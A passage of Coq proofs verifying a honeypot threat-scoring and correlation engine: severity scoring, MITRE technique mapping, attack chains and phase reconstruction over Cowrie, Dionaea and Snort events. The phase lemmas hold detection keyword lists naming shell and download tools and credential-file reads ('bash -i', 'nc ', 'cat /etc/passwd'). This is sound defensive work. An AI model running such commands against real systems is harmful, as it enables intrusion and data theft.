    as (out & Hout & Hts & _ & Hfin & Ha & Hs & Hm & Hr & Hg & Ht).
  exists out. split; [exact Hout|].
  destruct (calculate_score_fields _ _ _ Hout)
    as (Hty & _ & Hscore & Hmult & Hip & _ & _ & _ & Hsev & _).
  unfold _identify_attack_type in Hty. fold event_id in Hty.
  rewrite Hfailed, Hsuccess in Hty. injection Hty as Hlabel.
  assert (H40 : attack_type_score (breakdown out) = 40)
    by (rewrite Hscore, <- Hlabel; reflexivity).
  assert (H20 : 20 ≤ ip_reputation_score (breakdown out)).
  { rewrite Hip. unfold _assess_ip_reputation. rewrite Hrep. simpl.
    rewrite Hblock. repeat case_match; lia. }
  assert (H15 : success_multiplier (breakdown out) = (3 # 2)%Q).
  { rewrite Hmult. unfold _is_successful_attack. fold event_id.
    now rewrite Hsuccess. }
  assert (H80 : 80 ≤ threat_score out).
  { rewrite Hts, Hfin.
    destruct (ScoringTheorems.breakdown_sum_floor _ Ha Hs Hm Hr Hg Ht)
      as [-> _].
    apply Z.min_glb; [lia|].
    transitivity (Qfloor (inject_Z 80)); [rewrite Qfloor_Z; lia|].
    apply Qfloor_resp_le. rewrite H15, H40.
    unfold Qle, Qplus, Qmult, inject_Z; cbn [Qnum Qden]. lia. }
  split; [now rewrite <- Hlabel|]. split; [exact H40|].
  split; [exact H20|]. split; [exact H80|].
  rewrite Hsev. unfold _score_to_severity.
  destruct (Z.leb_spec 76 (threat_score out)); [reflexivity | lia].
Qed.

(** X6 on the sample login. *)
Lemma blocklisted_successful_login_is_critical_witness :
  ∃ out, calculate_score Samples.fromisoformat Samples.blocklisted_login
         = Ok out
    ∧ 80 ≤ threat_score out
    ∧ severity out = "critical".
Proof.
  destruct (blocklisted_successful_login_is_critical Samples.fromisoformat
              Samples.blocklisted_login
              {| in_blocklist := true; abuse_confidence_score := None |}
              eq_refl eq_refl eq_refl eq_refl)
    as (out & Hout & _ & _ & _ & H80 & Hsev).
  exists out. auto.
Defined.

End ScoringExtras.

(** ** Technique mapper *)

Module MitreExtras.

Import Mitre MitreFacts.

Lemma catalog_lookup tid data data' :
  (tid, data) ∈ TECHNIQUE_MAPPINGS → (tid, data') ∈ TECHNIQUE_MAPPINGS →
  data = data'.
Proof.
  intros H H'.
  apply (elem_of_list_to_map_1 (M := gmap string) _ _ _ catalog_keys_distinct)
    in H, H'.
  congruence.
Qed.

Lemma record_match_techniques m tid data p m' :
  record_match m tid data p = Ok m' →
  techniques m' = techniques m
  ∨ techniques m' = (techniques m ++ [tid])%list.
Proof.
  unfold record_match. case_bool_decide; [intros [= <-]; now left|].
  destruct (TACTICS !! tactic data); [|discriminate].
  intros [= <-]. now right.
Qed.

Lemma map_techniques_order text : ∀ catalog m m',
  map_techniques catalog text m = Ok m' →
  ∃ added, techniques m' = (techniques m ++ added)%list
    ∧ added `sublist_of` catalog.*1.
Proof.
  induction catalog as [|[tid data] rest IH]; intros m m'; simpl.
  - intros [= <-]. exists []. split; [now rewrite app_nil_r | constructor].
  - destruct (first_matching_pattern (patterns data) text) as [hit|];
      [cbn [rbind] | discriminate].
    destruct hit as [p|].
    + destruct (record_match m tid data p) as [m1|] eqn:E;
        [cbn [rbind] | discriminate].
      intros H. destruct (IH _ _ H) as (added & Hadd & Hsub).
      destruct (record_match_techniques _ _ _ _ _ E) as [Hm1 | Hm1];
        rewrite Hm1 in Hadd.
      * exists added. split; [exact Hadd | now apply sublist_cons].
      * exists (tid :: added). rewrite <- app_assoc in Hadd.
        split; [exact Hadd | now apply sublist_skip].
    + cbn [rbind]. intros H. destruct (IH _ _ H) as (added & Hadd & Hsub).
      exists added. split; [exact Hadd | now apply sublist_cons].
Qed.

(** X7: a technique of the catalog is reported for an event exactly when
    one of its patterns is found in the lowered text of the event, and
    the reported techniques come in the order of the catalog. *)
Theorem technique_reported_iff_pattern_found event :
  ∃ m, map_event event = Ok m
    ∧ (∀ tid data, (tid, data) ∈ TECHNIQUE_MAPPINGS →
         (tid ∈ techniques m
          ↔ ∃ p, p ∈ patterns data
              ∧ Re.search true p (combined_text event) = Ok true))
    ∧ techniques m `sublist_of` TECHNIQUE_MAPPINGS.*1.
Proof.
  destruct (map_event_total event) as [m Hm]. exists m.
  split; [exact Hm|].
  destruct (map_event_invariant _ _ Hm) as [Hwf Hfrom].
  split.
  - intros tid data Hin. split.
    + intros Htid. rewrite (wf_details _ Hwf) in Htid.
      apply list_elem_of_fmap in Htid as (d & -> & Hd).
      rewrite Forall_forall in Hfrom.
      destruct (Hfrom d Hd) as (data' & Hin' & _ & _ & _ & Hfirst).
      rewrite (catalog_lookup _ _ _ Hin Hin').
      apply first_matching_pattern_some in Hfirst
        as (pre & post & -> & _ & Hhit).
      exists (matched_pattern d). split; [|exact Hhit].
      apply elem_of_app; right. apply list_elem_of_here.
    + intros (p & Hp & Hhit).
      pose proof catalog_usable as Husable. rewrite Forall_forall in Husable.
      destruct (Husable _ Hin) as [Hcompile _].
      destruct (first_matching_pattern_hit _ _ _ Hcompile Hp Hhit)
        as [q Hq].
      destruct (detail_recorded TECHNIQUE_MAPPINGS (combined_text event)
                  empty_mapped m tid data q catalog_keys_distinct Hin
                  ltac:(apply not_elem_of_nil) Hq Hm)
        as (tname & _ & Hd).
      apply (MitreTheorems.detail_in_techniques _ _ Hwf) in Hd as [Hd _]. exact Hd.
  - destruct (map_techniques_order _ _ _ _ Hm) as (added & Hadd & Hsub).
    simpl in Hadd. now rewrite Hadd.
Qed.

End MitreExtras.

(** ** Attack chain and narrative *)

Module ChainExtras.

Import Mitre MitreFacts ChainFacts Narrative.

(** One pass over the details of an event: what is appended and what is
    marked as seen. *)
Lemma chain_details_first event : ∀ details chain seen,
  ∃ added,
    (chain_details event details chain seen).1 = (chain ++ added)%list
    ∧ (∀ t, t ∈ (chain_details event details chain seen).2
            ↔ t ∈ seen ∨ t ∈ tactic_id <$> details)
    ∧ (∀ t, t ∈ (chain_details event details chain seen).2
            ↔ t ∈ seen ∨ t ∈ step_tactic_id <$> added)
    ∧ Forall (fun step =>
                (step_tactic_id step ∉ seen)
                ∧ step_timestamp step = timestamp event
                ∧ step_evidence step = evidence_of event
                ∧ ∃ before d after,
                    details = (before ++ d :: after)%list
                    ∧ (tactic_id d ∉ tactic_id <$> before)
                    ∧ step_tactic_id step = tactic_id d
                    ∧ step_tactic step = tactic_name d
                    ∧ step_technique_id step = technique_id d
                    ∧ step_technique step = technique_name d) added.
Proof.
  induction details as [|d rest IH]; intros chain seen.
  - exists []. simpl. rewrite app_nil_r.
    split; [reflexivity|].
    split; [intros t; rewrite elem_of_nil; tauto|].
    split; [intros t; rewrite elem_of_nil; tauto | constructor].
  - simpl. case_bool_decide as Hseen.
    + destruct (IH chain seen) as (added & Hchain & Hdetails & Hadded & Hsteps).
      exists added. split; [exact Hchain|].
      split.
      { intros t. rewrite Hdetails, elem_of_cons.
        split; [tauto|]. intros [H | [-> | H]]; tauto. }
      split; [exact Hadded|].
      eapply Forall_impl; [exact Hsteps|]. simpl.
      intros step (Hnew & Hts & Hev & before & d' & after
                   & -> & Hfirst & Hid & Hrest).
      split; [exact Hnew|]. split; [exact Hts|]. split; [exact Hev|].
      exists (d :: before), d', after.
      split; [reflexivity|]. split; [|split; [exact Hid | exact Hrest]].
      rewrite fmap_cons, not_elem_of_cons. split; [|exact Hfirst].
      intros Heq. apply Hnew. rewrite Hid, Heq. exact Hseen.
    + destruct (IH (chain ++
                    [{| step_tactic := tactic_name d;
                        step_tactic_id := tactic_id d;
                        step_technique := technique_name d;
                        step_technique_id := technique_id d;
                        step_timestamp := timestamp event;
                        step_evidence := evidence_of event |}])%list
                   ({[ tactic_id d ]} ∪ seen))
        as (added & Hchain & Hdetails & Hadded & Hsteps).
      eexists (_ :: added).
      split; [rewrite Hchain, <- app_assoc; reflexivity|].
      split.
      { intros t. rewrite Hdetails, elem_of_union, elem_of_singleton,
          elem_of_cons. tauto. }
      split.
      { intros t. rewrite Hadded, elem_of_union, elem_of_singleton,
          fmap_cons, elem_of_cons. simpl. tauto. }
      constructor.
      * simpl. split; [exact Hseen|]. split; [reflexivity|].
        split; [reflexivity|]. exists [], d, rest.
        repeat split. apply not_elem_of_nil.
      * eapply Forall_impl; [exact Hsteps|]. simpl.
        intros step (Hnew & Hts & Hev & before & d' & after
                     & -> & Hfirst & Hid & Hrest).
        rewrite elem_of_union, elem_of_singleton in Hnew.
        split; [tauto|]. split; [exact Hts|]. split; [exact Hev|].
        exists (d :: before), d', after.
        split; [reflexivity|]. split; [|split; [exact Hid | exact Hrest]].
        rewrite fmap_cons, not_elem_of_cons. split; [|exact Hfirst].
        intros Heq. apply Hnew. left. rewrite Hid. exact Heq.
Qed.

(** Where a step of the chain comes from: the event [e] of the list,
    with nothing of the step's tactic before it, and the first detail of
    the event's mapping that has this tactic. *)
Lemma chain_events_first : ∀ evs chain seen chain',
  chain_events evs chain seen = Ok chain' →
  ∃ added, chain' = (chain ++ added)%list
    ∧ (∀ t, t ∈ seen ∨ t ∈ step_tactic_id <$> added
            ↔ t ∈ seen ∨ ∃ e m, e ∈ evs ∧ map_event e = Ok m ∧ t ∈ tactics m)
    ∧ Forall (fun step =>
        (step_tactic_id step ∉ seen)
        ∧ ∃ pre e post m,
            evs = (pre ++ e :: post)%list
            ∧ map_event e = Ok m
            ∧ (∀ e' m', e' ∈ pre → map_event e' = Ok m' →
                        step_tactic_id step ∉ tactics m')
            ∧ step_timestamp step = timestamp e
            ∧ step_evidence step = evidence_of e
            ∧ ∃ before d after,
                technique_details m = (before ++ d :: after)%list
                ∧ (tactic_id d ∉ tactic_id <$> before)
                ∧ step_tactic_id step = tactic_id d
                ∧ step_tactic step = tactic_name d
                ∧ step_technique_id step = technique_id d
                ∧ step_technique step = technique_name d) added.
Proof.
  induction evs as [|e rest IH]; intros chain seen chain'; simpl.
  - intros [= <-]. exists []. rewrite app_nil_r.
    split; [reflexivity|]. split; [|constructor].
    intros t. rewrite fmap_nil, elem_of_nil.
    split; [tauto|]. intros [H | (e & m & H & _)]; [tauto|].
    now apply elem_of_nil in H.
  - destruct (map_event e) as [m|] eqn:Hm; [cbn [rbind] | discriminate].
    destruct (chain_details_first e (technique_details m) chain seen)
      as (added1 & Hchain1 & Hdetails & Hadded1 & Hsteps1).
    destruct (chain_details e (technique_details m) chain seen)
      as [chain1 seen1]. simpl in Hchain1, Hdetails, Hadded1.
    intros H. destruct (IH _ _ _ H) as (added2 & Hchain2 & Hseen2 & Hsteps2).
    destruct (map_event_invariant _ _ Hm) as [Hwf _].
    assert (Htactics : ∀ t, t ∈ tactics m ↔ t ∈ tactic_id <$> technique_details m).
    { intros t. rewrite (wf_tactic_of_detail _ Hwf), list_elem_of_fmap.
      split; intros (d & H1 & H2); exists d; auto. }
    exists (added1 ++ added2)%list.
    split; [rewrite Hchain2, Hchain1, <- app_assoc; reflexivity|].
    split.
    + intros t. rewrite fmap_app, elem_of_app. split.
      * intros [Hs | [H1 | H2]]; [now left | |].
        -- assert (Ht : t ∈ seen1) by (apply Hadded1; now right).
           apply Hdetails in Ht as [Ht | Ht]; [now left|].
           right. exists e, m. rewrite Htactics.
           split; [apply list_elem_of_here | auto].
        -- destruct (proj1 (Hseen2 t) (or_intror H2)) as [Ht | Ht].
           ++ apply Hdetails in Ht as [Ht | Ht]; [now left|].
              right. exists e, m. rewrite Htactics.
              split; [apply list_elem_of_here | auto].
           ++ destruct Ht as (e' & m' & He' & Hrest).
              right. exists e', m'.
              split; [now apply list_elem_of_further | exact Hrest].
      * intros [Hs | (e' & m' & He' & Hm' & Ht)]; [now left|].
        apply elem_of_cons in He' as [-> | He'].
        -- rewrite Hm in Hm'. injection Hm' as <-.
           apply Htactics in Ht.
           assert (Ht1 : t ∈ seen1) by (apply Hdetails; now right).
           apply Hadded1 in Ht1. tauto.
        -- destruct (proj2 (Hseen2 t)) as [Ht' | Ht'].
           { right. exists e', m'. auto. }
           ++ apply Hadded1 in Ht'. tauto.
           ++ tauto.
    + apply Forall_app. split.
      * eapply Forall_impl; [exact Hsteps1|]. simpl.
        intros step (Hnew & Hts & Hev & Hdetail).
        split; [exact Hnew|]. exists [], e, rest, m.
        split; [reflexivity|]. split; [exact Hm|].
        split; [intros e' m' He'; now apply elem_of_nil in He'|].
        auto.
      * eapply Forall_impl; [exact Hsteps2|]. simpl.
        intros step (Hnew & pre & e' & post & m' & -> & Hm' & Hpre & Hrest).
        assert (Hnew1 : step_tactic_id step ∉ seen).
        { intros Hs. apply Hnew, Hdetails. now left. }
        split; [exact Hnew1|].
        exists (e :: pre), e', post, m'.
        split; [reflexivity|]. split; [exact Hm'|].
        split; [|exact Hrest].
        intros e0 m0 He0 Hm0.
        apply elem_of_cons in He0 as [-> | He0]; [|eauto].
        rewrite Hm in Hm0. injection Hm0 as <-.
        intros Ht. apply Hnew, Hdetails. right. now apply Htactics.
Qed.

Lemma get_attack_chain_total evs : ∃ chain, get_attack_chain evs = Ok chain.
Proof.
  destruct (chain_events_spec (sorted_by_timestamp evs) [] ∅)
    as (groups & chain & Hchain & _).
  { split; [constructor|]. intros t. rewrite elem_of_empty, fmap_nil,
      elem_of_nil. tauto. }
  exists chain. exact Hchain.
Qed.

(** X8: the chain has a step for a tactic exactly when the mapping of
    one of the events has the tactic: no tactic that was seen is left
    out and none is made up. *)
Theorem attack_chain_covers_mapped_tactics evs :
  ∃ chain, get_attack_chain evs = Ok chain
    ∧ ∀ t, t ∈ step_tactic_id <$> chain
           ↔ ∃ e m, e ∈ evs ∧ map_event e = Ok m ∧ t ∈ tactics m.
Proof.
  destruct (get_attack_chain_total evs) as [chain Hchain].
  exists chain. split; [exact Hchain|].
  destruct (chain_events_first _ _ _ _ Hchain) as (added & -> & Hseen & _).
  intros t. simpl. specialize (Hseen t).
  rewrite elem_of_empty in Hseen.
  split.
  - intros Ht. destruct (proj1 Hseen (or_intror Ht))
      as [[] | (e & m & He & Hrest)].
    exists e, m. split; [|exact Hrest].
    now rewrite <- (sorted_by_timestamp_perm evs).
  - intros (e & m & He & Hrest).
    destruct (proj2 Hseen) as [[] | Ht]; [|exact Ht].
    right. exists e, m. split; [|exact Hrest].
    now rewrite (sorted_by_timestamp_perm evs).
Qed.

(** X9: every step of the chain is taken from the earliest event, in
    the sorted order, whose mapping has the step's tactic: the step
    carries that event's time stamp and evidence, and its technique is
    the first one of that event's details with the tactic. *)
Theorem attack_chain_step_from_earliest_event evs :
  ∃ chain, get_attack_chain evs = Ok chain
    ∧ Forall (fun step =>
        ∃ pre e post m,
          sorted_by_timestamp evs = (pre ++ e :: post)%list
          ∧ map_event e = Ok m
          ∧ (∀ e' m', e' ∈ pre → map_event e' = Ok m' →
                      step_tactic_id step ∉ tactics m')
          ∧ step_timestamp step = timestamp e
          ∧ step_evidence step = evidence_of e
          ∧ ∃ before d after,
              technique_details m = (before ++ d :: after)%list
              ∧ (tactic_id d ∉ tactic_id <$> before)
              ∧ step_tactic_id step = tactic_id d
              ∧ step_tactic step = tactic_name d
              ∧ step_technique_id step = technique_id d
              ∧ step_technique step = technique_name d) chain.
Proof.
  destruct (get_attack_chain_total evs) as [chain Hchain].
  exists chain. split; [exact Hchain|].
  destruct (chain_events_first _ _ _ _ Hchain) as (added & -> & _ & Hsteps).
  simpl. eapply Forall_impl; [exact Hsteps|]. simpl.
  intros step [_ H]. exact H.
Qed.

End ChainExtras.

(** ** Attack narrative *)

Module NarrativeExtras.

Import Mitre MitreFacts ChainFacts Narrative.

Lemma narrative_empty_iff chain :
  generate_attack_narrative chain = no_activity ↔ chain = [].
Proof.
  split; [|now intros ->].
  destruct chain as [|step rest]; [reflexivity|].
  intros H. exfalso. revert H.
  unfold generate_attack_narrative, narrative_parts.
  cbn [narrative_steps app String.concat].
  unfold no_activity. vm_compute. discriminate.
Qed.







(** X11: the narrative of the chain of a list of events is the
    no-activity sentence exactly when no event of the list is mapped to
    a technique. *)
Theorem narrative_of_unmapped_events evs :
  ∃ chain, get_attack_chain evs = Ok chain
    ∧ (generate_attack_narrative chain = no_activity
       ↔ ∀ e m, e ∈ evs → map_event e = Ok m → techniques m = []).
Proof.
  destruct (ChainExtras.get_attack_chain_total evs) as [chain Hchain].
  exists chain. split; [exact Hchain|].
  rewrite narrative_empty_iff.
  destruct (ChainExtras.chain_events_first _ _ _ _ Hchain)
    as (added & -> & Hseen & _).
  simpl. split.
  - intros -> e m He Hm.
    destruct (map_event_invariant _ _ Hm) as [Hwf _].
    destruct (technique_details m) as [|d ds] eqn:Hd.
    { now rewrite (wf_details _ Hwf), Hd. }
    exfalso. destruct (proj2 (Hseen (tactic_id d))) as [H | H].
    + right. exists e, m.
      split; [now rewrite (sorted_by_timestamp_perm evs)|].
      split; [exact Hm|]. apply (wf_tactic_of_detail _ Hwf).
      exists d. rewrite Hd. split; [apply list_elem_of_here | reflexivity].
    + now apply elem_of_empty in H.
    + now apply elem_of_nil in H.
  - intros Hnone. destruct added as [|step rest]; [reflexivity|]. exfalso.
    destruct (proj1 (Hseen (step_tactic_id step))) as [H | H].
    + right. apply list_elem_of_here.
    + now apply elem_of_empty in H.
    + destruct H as (e & m & He & Hm & Ht).
      rewrite (sorted_by_timestamp_perm evs) in He.
      destruct (map_event_invariant _ _ Hm) as [Hwf _].
      apply (wf_tactic_of_detail _ Hwf) in Ht as (d & Hd & _).
      pose proof (Hnone e m He Hm) as Hempty.
      rewrite (wf_details _ Hwf) in Hempty.
      apply fmap_nil_inv in Hempty. rewrite Hempty in Hd.
      now apply elem_of_nil in Hd.
Qed.

End NarrativeExtras.

(** ** Correlation engine *)

Module CorrelationExtras.

Import Correlation ChainFacts CorrelationFacts.

(** *** Attack phases *)

Lemma add_phase_elem p q l : q ∈ add_phase p l ↔ q ∈ l ∨ q = p.
Proof.
  unfold add_phase. case_bool_decide as Hin.
  - split; [tauto|]. intros [H | ->]; assumption.
  - rewrite elem_of_app, list_elem_of_singleton. tauto.
Qed.

Lemma add_phase_NoDup p l : NoDup l → NoDup (add_phase p l).
Proof.
  intros Hl. unfold add_phase. case_bool_decide as Hin; [exact Hl|].
  apply NoDup_app. split; [exact Hl|]. split; [|apply NoDup_singleton].
  intros x Hx Hp. apply list_elem_of_singleton in Hp as ->. contradiction.
Qed.

Lemma phase_step_NoDup l e : NoDup l → NoDup (phase_step l e).
Proof.
  intros Hl. unfold phase_step.
  repeat case_match; repeat apply add_phase_NoDup; exact Hl.
Qed.

Lemma cond_add_elem (b : bool) p q l :
  q ∈ (if b then add_phase p l else l) ↔ q ∈ l ∨ (q = p ∧ b = true).
Proof.
  destruct b; rewrite ?add_phase_elem; intuition discriminate.
Qed.

Lemma cond_cond_add_elem (b c : bool) p q l :
  q ∈ (if b then if c then add_phase p l else l else l)
  ↔ q ∈ l ∨ (q = p ∧ b = true ∧ c = true).
Proof.
  destruct b, c; rewrite ?add_phase_elem; intuition discriminate.
Qed.

Lemma phase_step_cases q l e :
  let command := Text.lower (Text.get_str (input e)) in
  q ∈ phase_step l e ↔
  q ∈ l
  ∨ (q = "Reconnaissance" ∧ eventid e = Some "cowrie.client.version")
  ∨ (q = "Exploitation" ∧ eventid e = Some "cowrie.login.success")
  ∨ (q = "Installation"
     ∧ (eventid e = Some "cowrie.session.file_download"
        ∨ eventid e = Some "dionaea.download"))
  ∨ (q = "Command & Control"
     ∧ eventid e = Some "cowrie.command.input"
     ∧ any_in ["wget"; "curl"; "nc "; "bash -i"] command = true)
  ∨ (q = "Actions on Objectives"
     ∧ eventid e = Some "cowrie.command.input"
     ∧ any_in ["cat /etc/passwd"; "uname"; "whoami"] command = true).
Proof.
  intros command. unfold phase_step. cbv zeta. fold command.
  rewrite !cond_cond_add_elem, !cond_add_elem, orb_true_iff,
    !bool_decide_eq_true.
  tauto.
Qed.

(** What one event adds is what it adds to the empty list. *)
Lemma phase_step_elem q l e :
  q ∈ phase_step l e ↔ q ∈ l ∨ q ∈ phase_step [] e.
Proof.
  rewrite !phase_step_cases, elem_of_nil. tauto.
Qed.

Lemma phase_step_nil_elem q e :
  let command := Text.lower (Text.get_str (input e)) in
  q ∈ phase_step [] e ↔
  (q = "Reconnaissance" ∧ eventid e = Some "cowrie.client.version")
  ∨ (q = "Exploitation" ∧ eventid e = Some "cowrie.login.success")
  ∨ (q = "Installation"
     ∧ (eventid e = Some "cowrie.session.file_download"
        ∨ eventid e = Some "dionaea.download"))
  ∨ (q = "Command & Control"
     ∧ eventid e = Some "cowrie.command.input"
     ∧ any_in ["wget"; "curl"; "nc "; "bash -i"] command = true)
  ∨ (q = "Actions on Objectives"
     ∧ eventid e = Some "cowrie.command.input"
     ∧ any_in ["cat /etc/passwd"; "uname"; "whoami"] command = true).
Proof.
  intros command. rewrite phase_step_cases, elem_of_nil. tauto.
Qed.

Lemma phases_fold : ∀ evs l,
  NoDup l →
  NoDup (fold_left phase_step evs l)
  ∧ ∀ q, q ∈ fold_left phase_step evs l
         ↔ q ∈ l ∨ ∃ e, e ∈ evs ∧ q ∈ phase_step [] e.
Proof.
  induction evs as [|e rest IH]; intros l Hl; simpl.
  - split; [exact Hl|]. intros q. split; [tauto|].
    intros [H | (e & He & _)]; [exact H|]. now apply elem_of_nil in He.
  - destruct (IH _ (phase_step_NoDup l e Hl)) as [Hnd Hin].
    split; [exact Hnd|]. intros q. rewrite Hin, phase_step_elem. split.
    + intros [[H | H] | (e' & He' & H)]; [tauto | |].
      * right. exists e. split; [apply list_elem_of_here | exact H].
      * right. exists e'. split; [now apply list_elem_of_further | exact H].
    + intros [H | (e' & He' & H)]; [tauto|].
      apply elem_of_cons in He' as [-> | He']; [tauto|].
      right. exists e'. tauto.
Qed.

(** X12: the phases of a list of events do not depend on the order or
    on repetitions: each of the five phase names is listed once when
    some event shows it (by its eventid, and for the two command phases
    by a keyword in the lowered input) and not at all otherwise; no other
    name is ever listed. *)
Theorem attack_phases_by_evidence evs :
  let phases := _reconstruct_attack_phases evs in
  let command e := Text.lower (Text.get_str (input e)) in
  NoDup phases
  ∧ phases ⊆ ["Reconnaissance"; "Exploitation"; "Installation";
              "Command & Control"; "Actions on Objectives"]
  ∧ ("Reconnaissance" ∈ phases
     ↔ ∃ e, e ∈ evs ∧ eventid e = Some "cowrie.client.version")
  ∧ ("Exploitation" ∈ phases
     ↔ ∃ e, e ∈ evs ∧ eventid e = Some "cowrie.login.success")
  ∧ ("Installation" ∈ phases
     ↔ ∃ e, e ∈ evs
         ∧ (eventid e = Some "cowrie.session.file_download"
            ∨ eventid e = Some "dionaea.download"))
  ∧ ("Command & Control" ∈ phases
     ↔ ∃ e, e ∈ evs
         ∧ eventid e = Some "cowrie.command.input"
         ∧ any_in ["wget"; "curl"; "nc "; "bash -i"] (command e) = true)
  ∧ ("Actions on Objectives" ∈ phases
     ↔ ∃ e, e ∈ evs
         ∧ eventid e = Some "cowrie.command.input"
         ∧ any_in ["cat /etc/passwd"; "uname"; "whoami"] (command e) = true).
Proof.
  intros phases command.
  destruct (phases_fold (sorted_by_timestamp evs) [] (NoDup_nil_2))
    as [Hnd Hin].
  fold (_reconstruct_attack_phases evs) in Hnd, Hin. fold phases in Hnd, Hin.
  assert (Hshown : ∀ q, q ∈ phases ↔ ∃ e, e ∈ evs ∧ q ∈ phase_step [] e).
  { intros q. rewrite Hin, elem_of_nil. split.
    - intros [[] | (e & He & H)]. exists e.
      split; [now rewrite <- (sorted_by_timestamp_perm evs) | exact H].
    - intros (e & He & H). right. exists e.
      split; [now rewrite (sorted_by_timestamp_perm evs) | exact H]. }
  split; [exact Hnd|]. split.
  { intros q Hq. apply Hshown in Hq as (e & _ & Hq).
    apply phase_step_nil_elem in Hq.
    destruct Hq as [[-> _] | [[-> _] | [[-> _] | [[-> _] | [-> _]]]]];
      repeat first [apply list_elem_of_here | apply list_elem_of_further]. }
  repeat split.
  all: try (intros H; apply Hshown in H as (e & He & H);
            apply phase_step_nil_elem in H; exists e; fold (command e) in H;
            split; [exact He|];
            destruct H as [[Hq H] | [[Hq H] | [[Hq H] | [[Hq H] | [Hq H]]]]];
            try discriminate Hq; exact H).
  all: intros (e & He & H); apply Hshown; exists e; split; [exact He|];
    apply phase_step_nil_elem; fold (command e); auto 12.
Qed.

(** *** First and last sighting *)

Lemma ltb_leb a b : String.ltb a b = true → String.leb a b = true.
Proof.
  unfold String.ltb, String.leb.
  destruct (String.compare a b); simpl; congruence.
Qed.

Lemma ltb_false_leb a b : String.ltb b a = false → String.leb a b = true.
Proof.
  unfold String.ltb, String.leb. rewrite (String.compare_antisym a b).
  destruct (String.compare b a); simpl; congruence.
Qed.

Lemma str_min_spec a b :
  (str_min a b = a ∨ str_min a b = b)
  ∧ String.leb (str_min a b) a = true ∧ String.leb (str_min a b) b = true.
Proof.
  unfold str_min. destruct (String.ltb b a) eqn:E.
  - split; [now right|]. split; [now apply ltb_leb | apply leb_refl].
  - split; [now left|]. split; [apply leb_refl | now apply ltb_false_leb].
Qed.

Lemma str_max_spec a b :
  (str_max a b = a ∨ str_max a b = b)
  ∧ String.leb a (str_max a b) = true ∧ String.leb b (str_max a b) = true.
Proof.
  unfold str_max. destruct (String.ltb a b) eqn:E.
  - split; [now right|]. split; [now apply ltb_leb | apply leb_refl].
  - split; [now left|]. split; [apply leb_refl | now apply ltb_false_leb].
Qed.

Lemma fold_min_spec : ∀ l x,
  fold_left str_min l x ∈ x :: l
  ∧ ∀ s, s ∈ x :: l → String.leb (fold_left str_min l x) s = true.
Proof.
  induction l as [|y l IH]; intros x; simpl.
  - split; [apply list_elem_of_here|].
    intros s Hs. apply list_elem_of_singleton in Hs as ->. apply leb_refl.
  - destruct (IH (str_min x y)) as [Hin Hle].
    destruct (str_min_spec x y) as (Hcase & Hx & Hy). split.
    + apply elem_of_cons in Hin as [-> | Hin].
      * destruct Hcase as [-> | ->];
          [apply list_elem_of_here
          | apply list_elem_of_further, list_elem_of_here].
      * now do 2 apply list_elem_of_further.
    + intros s Hs.
      assert (Hm : String.leb (fold_left str_min l (str_min x y))
                              (str_min x y) = true)
        by apply Hle, list_elem_of_here.
      apply elem_of_cons in Hs as [-> | Hs];
        [exact (leb_trans _ _ _ Hm Hx)|].
      apply elem_of_cons in Hs as [-> | Hs];
        [exact (leb_trans _ _ _ Hm Hy)|].
      now apply Hle, list_elem_of_further.
Qed.

Lemma fold_max_spec : ∀ l x,
  fold_left str_max l x ∈ x :: l
  ∧ ∀ s, s ∈ x :: l → String.leb s (fold_left str_max l x) = true.
Proof.
  induction l as [|y l IH]; intros x; simpl.
  - split; [apply list_elem_of_here|].
    intros s Hs. apply list_elem_of_singleton in Hs as ->. apply leb_refl.
  - destruct (IH (str_max x y)) as [Hin Hle].
    destruct (str_max_spec x y) as (Hcase & Hx & Hy). split.
    + apply elem_of_cons in Hin as [-> | Hin].
      * destruct Hcase as [-> | ->];
          [apply list_elem_of_here
          | apply list_elem_of_further, list_elem_of_here].
      * now do 2 apply list_elem_of_further.
    + intros s Hs.
      assert (Hm : String.leb (str_max x y)
                              (fold_left str_max l (str_max x y)) = true)
        by apply Hle, list_elem_of_here.
      apply elem_of_cons in Hs as [-> | Hs];
        [exact (leb_trans _ _ _ Hx Hm)|].
      apply elem_of_cons in Hs as [-> | Hs];
        [exact (leb_trans _ _ _ Hy Hm)|].
      now apply Hle, list_elem_of_further.
Qed.

(** The truthy value of a key. *)
Lemma truthy_value (o : option string) s :
  (if Text.truthy_opt o then o else None) = Some s ↔ o = Some s ∧ s ≠ "".
Proof.
  destruct o as [[|c t]|]; simpl; split; try discriminate.
  - intros [[= <-] H]. now destruct H.
  - intros [= <-]. split; [reflexivity | discriminate].
  - now intros [-> _].
  - now intros [? _].
Qed.

Lemma timestamps_of_elem evs s :
  s ∈ timestamps_of evs ↔ s ≠ "" ∧ ∃ e, e ∈ evs ∧ timestamp e = Some s.
Proof.
  unfold timestamps_of. rewrite list_elem_of_omap. split.
  - intros (e & He & H). apply truthy_value in H as [H Hs]. eauto.
  - intros (Hs & e & He & H). exists e. split; [exact He|].
    now apply truthy_value.
Qed.

Lemma correlate_by_ip_summary es_search utcnow isoformat ip range :
  let result := correlate_by_ip es_search utcnow isoformat ip range in
  let all_events :=
    (cowrie (events result) ++ dionaea (events result)
     ++ snort (events result))%list in
  first_seen (summary result) = min_of (timestamps_of all_events)
  ∧ last_seen (summary result) = max_of (timestamps_of all_events)
  ∧ targeted_services (summary result)
    = elements (services_of protocol (cowrie (events result))
                ∪ services_of connection_type (dionaea (events result)))
  ∧ attack_phases (summary result) = _reconstruct_attack_phases all_events.
Proof.
  unfold correlate_by_ip.
  destruct (effective_range utcnow range) as [start_time end_time].
  simpl. repeat split.
Qed.

(** X13: first_seen and last_seen are both missing when no event of
    the three sources has a non-empty time stamp; otherwise they are the
    least and the greatest of these time stamps in the order of strings,
    and both are time stamps of events. *)
Theorem first_and_last_seen es_search utcnow isoformat ip range :
  let result := correlate_by_ip es_search utcnow isoformat ip range in
  let all_events :=
    (cowrie (events result) ++ dionaea (events result)
     ++ snort (events result))%list in
  let stamps := timestamps_of all_events in
  (∀ s, s ∈ stamps ↔ s ≠ "" ∧ ∃ e, e ∈ all_events ∧ timestamp e = Some s)
  ∧ match first_seen (summary result), last_seen (summary result) with
    | None, None => stamps = []
    | Some first, Some last =>
        first ∈ stamps ∧ last ∈ stamps
        ∧ ∀ s, s ∈ stamps →
               String.leb first s = true ∧ String.leb s last = true
    | _, _ => False
    end.
Proof.
  intros result all_events stamps.
  split; [intros s; apply timestamps_of_elem|].
  destruct (correlate_by_ip_summary es_search utcnow isoformat ip range)
    as (Hfirst & Hlast & _).
  fold result in Hfirst, Hlast. fold all_events in Hfirst, Hlast.
  fold stamps in Hfirst, Hlast. rewrite Hfirst, Hlast. clear Hfirst Hlast.
